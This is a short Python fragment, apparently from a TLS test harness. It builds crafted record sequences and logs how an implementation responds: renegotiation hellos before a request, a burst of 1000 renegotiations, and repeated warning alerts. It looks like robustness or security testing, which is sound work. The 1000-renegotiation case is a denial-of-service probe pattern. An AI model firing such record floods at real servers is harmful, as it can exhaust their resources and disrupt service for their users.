    run("reneg_once_then_request", lambda c: c.seal(22, hello) + c.seal(23, req))
    run("reneg_twice_then_request", lambda c: c.seal(22, hello) + c.seal(22, hello) + c.seal(23, req))
    run("1000_renegs", lambda c: b"".join(c.seal(22, hello) for _ in range(1000)))
    run("5_warnings_then_request", lambda c: b"".join(c.seal(21, b"\x01\x5a") for _ in range(5)) + c.seal(23, req))
    for k, v in out.items():
        T.note(k, v)
